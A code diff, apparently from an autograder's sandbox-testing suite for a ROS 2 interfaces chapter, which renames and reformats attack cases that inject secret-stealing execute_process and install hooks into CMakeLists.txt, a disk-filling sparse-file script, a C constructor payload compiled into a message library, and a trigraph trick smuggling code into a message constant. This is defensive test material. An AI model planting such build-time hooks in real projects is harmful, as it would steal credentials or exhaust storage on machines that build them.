@@ -8,13 +8,15 @@ import time
 from autograder.checking.attacks import STEAL_SECRETS, Attack, Chapter
 
 CHAPTER = Chapter("03_interfaces")
-HOME = "my_robot_interfaces"
-CMAKE, END = f"{HOME}/CMakeLists.txt", "ament_export_dependencies"
-STEAL = """execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py OUTPUT_VARIABLE loot)
-message(WARNING "${loot}")
+PACKAGE = "my_robot_interfaces"
+CMAKE, LAST_LINE = f"{PACKAGE}/CMakeLists.txt", "ament_export_dependencies"
+RUN_STEALER = """execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py OUTPUT_VARIABLE output)
+message(WARNING "${output}")
 install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py)")
 """
-FILL = 'install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/fill.py ${CMAKE_INSTALL_PREFIX})")\n'
+RUN_FILLER = (
+    'install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/fill.py ${CMAKE_INSTALL_PREFIX})")\n'
+)
 FILLER = """import os, sys
 for number in range(50):
     open(f"{sys.argv[1]}/{number}", "w").truncate(60 << 20)
@@ -30,25 +32,31 @@ __attribute__((constructor)) static void steal(void) {{
     waitpid(child, 0, 0);
 }}
 """
-# A constant's text that is code where a compiler knows trigraphs: `??/` is a backslash there.
+# A constant whose text is code to a compiler that supports trigraphs, where `??/` is a backslash.
 TRIGRAPH = "string EVIL='??/\"; namespace { struct Z { Z() { __builtin_trap(); } } z; } //'\n"
 
 
 def attacks() -> tuple[Attack, ...]:
-    """Return the attacks."""
-    steal = f"{STEAL_SECRETS}# {time.time_ns()}\n"  # messages that were built before are not built again
+    """Return the attacks on the chapter."""
+    steal = f"{STEAL_SECRETS}# {time.time_ns()}\n"  # unique, because known messages are not rebuilt
     return (
         Attack(
             "CMake thief",
             "CMakeLists.txt steals while it is read and while it installs",
-            CHAPTER.write("default_qos", swaps={CMAKE: (END, STEAL + END)}, files={f"{HOME}/steal.py": steal}),
+            CHAPTER.write(
+                "default_qos", swaps={CMAKE: (LAST_LINE, RUN_STEALER + LAST_LINE)}, files={f"{PACKAGE}/steal.py": steal}
+            ),
             CHAPTER.mutant("default_qos").fails,
             exactly=True,
         ),
         Attack(
             "CMake filler",
             "CMakeLists.txt installs sparse files of 3 GB, and a FIFO",
-            CHAPTER.write("misspelt_topic", swaps={CMAKE: (END, FILL + END)}, files={f"{HOME}/fill.py": FILLER}),
+            CHAPTER.write(
+                "misspelt_topic",
+                swaps={CMAKE: (LAST_LINE, RUN_FILLER + LAST_LINE)},
+                files={f"{PACKAGE}/fill.py": FILLER},
+            ),
             CHAPTER.mutant("misspelt_topic").fails,
         ),
         Attack(
@@ -56,9 +64,14 @@ def attacks() -> tuple[Attack, ...]:
             "a text in a definition that is code to some compilers; code in the library of the messages steals",
             CHAPTER.write(
                 "misspelt_topic",
-                heads={f"{HOME}/msg/RobotStatus.msg": TRIGRAPH},
-                swaps={CMAKE: (END, f"target_sources(${{PROJECT_NAME}}__rosidl_generator_c PRIVATE steal.c)\n{END}")},
-                files={f"{HOME}/steal.c": PAYLOAD.format(script=json.dumps(steal))},
+                heads={f"{PACKAGE}/msg/RobotStatus.msg": TRIGRAPH},
+                swaps={
+                    CMAKE: (
+                        LAST_LINE,
+                        f"target_sources(${{PROJECT_NAME}}__rosidl_generator_c PRIVATE steal.c)\n{LAST_LINE}",
+                    )
+                },
+                files={f"{PACKAGE}/steal.c": PAYLOAD.format(script=json.dumps(steal))},
             ),
             CHAPTER.mutant("misspelt_topic").fails,
         ),
